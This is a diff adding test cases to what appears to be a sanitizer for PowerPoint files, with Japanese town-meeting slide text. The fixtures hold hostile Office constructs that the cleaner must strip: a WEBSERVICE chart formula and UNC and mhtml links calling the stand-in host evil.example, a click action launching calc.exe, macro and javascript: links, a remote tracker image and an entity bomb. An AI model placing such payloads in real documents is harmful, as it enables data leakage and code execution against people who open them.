@@ -289,3 +289,74 @@ def doubled(name, data, source=None):
 
 def raw(deck):
     return deck if isinstance(deck, bytes) else deck.bytes()
+
+
+EVIL = "http://evil.example/"
+WORDS_OF_OFFICE = [
+    "町民説明会", "一　開会のことば", "令和八年度　予算案", "辻\U000E0100村　\U00020BB7野家", "四月", "百二十",
+    "防災のページ", "質疑", "統計"]
+
+
+class Case:
+    """One presentation: @counts are the words that its report must count, @gone
+    what must not be in any part of what leaves, @kept what must be."""
+
+    def __init__(self, name, deck, counts=(), kept=("町民説明会",), gone=(), verdict="cleaned", suffix=".pptx"):
+        self.name, self.deck, self.counts, self.kept, self.gone = name, deck, counts, kept, gone
+        self.verdict, self.suffix = verdict, suffix
+
+    def bytes(self):
+        made = self.deck()
+        return made if isinstance(made, bytes) else made.bytes()
+
+
+OLE_MARK = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER
+CASES = [
+    Case("office", with_office, kept=WORDS_OF_OFFICE + [
+        "ppaction://hlinksldjump", "jump=endshow", "https://www.city.example.lg.jp/bosai/",
+        "mailto:soumu@city.example.lg.jp", "p159:morph", 'show="0"', "ここで資料を配る", "金額を確かめること",
+        "総務課 山田", "来庁者数", 'vert="eaVert"', "<p:set>", "strVal"]),
+    Case("O008-package", lambda: with_object(OLE_MARK, "oleObject1.bin"), ["embedded-object"],
+         kept=["添付の資料をご覧ください", "<p:pic>", 'name="オブジェクト"'], gone=["oleObj", "graphicFrame"]),
+    Case("O008-workbook", lambda: with_object(workbook("CALL(1)"), "book1.xlsx", kind="package", prog="Excel.Sheet.12"),
+         ["embedded-object"], kept=["<p:pic>"], gone=["oleObj", "CALL("]),
+    Case("O008-plain", lambda: with_object(OLE_MARK, "oleObject1.bin", wrap=False), ["embedded-object"],
+         kept=["<p:pic>"], gone=["oleObj"]),
+    Case("O008-no-picture", lambda: with_object(OLE_MARK, "oleObject1.bin", image=False), ["embedded-object"],
+         kept=["添付の資料をご覧ください"], gone=["oleObj", "graphicFrame"]),
+    Case("O004-linked-object", lambda: with_object(None, None, external="mhtml:" + EVIL + "x!x-usc:" + EVIL),
+         ["external-target"], kept=["<p:pic>"], gone=["evil.example", "oleObj"]),
+    Case("O008-chart-workbook", lambda: with_chart(book=workbook()), kept=["来庁者数", "Sheet1!$B$2:$B$4", "externalData"]),
+    Case("O004-chart-link", lambda: with_chart(link="file:///\\\\evil.example\\share\\a.xlsx"), ["external-target"],
+         kept=["来庁者数"], gone=["evil.example", "externalData"]),
+    Case("O019-chart-formula", lambda: with_chart("[1]Sheet1!$A$1+WEBSERVICE(&quot;http://evil.example/&quot;)"),
+         ["formula"], kept=["来庁者数", "143"], gone=["WEBSERVICE", "evil.example"]),
+    Case("O022-program", lambda: clicked("ppaction://program", "file:///C:/Windows/System32/calc.exe"),
+         ["event-handler", "external-target"], kept=["押す"], gone=["calc.exe", "ppaction"]),
+    Case("O022-macro", lambda: clicked("ppaction://macro?name=Run"), ["event-handler"], kept=["押す"], gone=["ppaction"]),
+    Case("O022-verb", lambda: clicked("ppaction://ole?verb=0"), ["embedded-object"], kept=["押す"], gone=["ppaction"]),
+    Case("O022-file", lambda: clicked("ppaction://hlinkfile", "other.exe"), ["external-target"], kept=["押す"],
+         gone=["ppaction", "other.exe"]),
+    Case("O022-other-show", lambda: clicked("ppaction://hlinkpres?slideindex=1", "\\\\evil.example\\a.pptx"),
+         ["external-target"], kept=["押す"], gone=["ppaction", "evil.example"]),
+    Case("O022-hover", lambda: clicked(target=EVIL, hover=True), ["event-handler"], kept=["押す"], gone=["hlinkHover"]),
+    Case("O022-script", lambda: clicked(target="javascript:alert(1)"), ["external-target"], kept=["押す"],
+         gone=["javascript"]),
+    Case("O022-jump", lambda: clicked("ppaction://hlinkshowjump?jump=nextslide"), kept=["押す", "jump=nextslide"]),
+    Case("O022-media", with_media, ["sound"], kept=["<p:pic>", "<p:fade/>"],
+         gone=["p14:media", "videoFile", "<p:cmd", "p:video", "sndAc"]),
+    Case("O004-remote-picture", with_remote_picture, ["remote-image"], gone=["tracker.example"]),
+    Case("O026-drawing", with_drawings, kept=["<p:pic>"], gone=["<script"]),
+    Case("O033-branches", with_branches, ["embedded-object"], kept=["新しい形"], gone=["古い形", "urn:unknown", "v:shape", "evil.example"]),
+    Case("O001-rest", with_rest, ["vba-project", "custom-xml", "custom-ui", "web-extension", "activex", "font-data",
+                                  "printer-settings"], kept=["本文です"],
+         gone=["p:controls", "custDataLst", "embeddedFontLst", "onLoad"], suffix=".pptm"),
+    Case("O012-orphan", lambda: doubled("ppt/slides/slide9.xml", b"<x>" + MARKER + b"</x>")),
+    Case("O010-double", lambda: doubled("ppt/presentation.xml", b"<x/>"), verdict="removed"),
+    Case("O010-case", lambda: doubled("PPT/Presentation.xml", b"<x/>"), verdict="removed"),
+    Case("O011-piece", lambda: doubled("ppt/slides/slide1.xml/[0].piece", b"<x/>"), verdict="removed"),
+    Case("O015-entities", entity_bomb, verdict="removed"),
+    Case("O016-deep", deep, verdict="removed"),
+    Case("O031-prefix", lambda: b"<html><script>" + MARKER + b"</script></html>" + simple().bytes(), verdict="removed"),
+    Case("O030-renamed", with_rest, ["vba-project"], kept=["本文です"], gone=["onLoad"], suffix=".pptx"),
+]
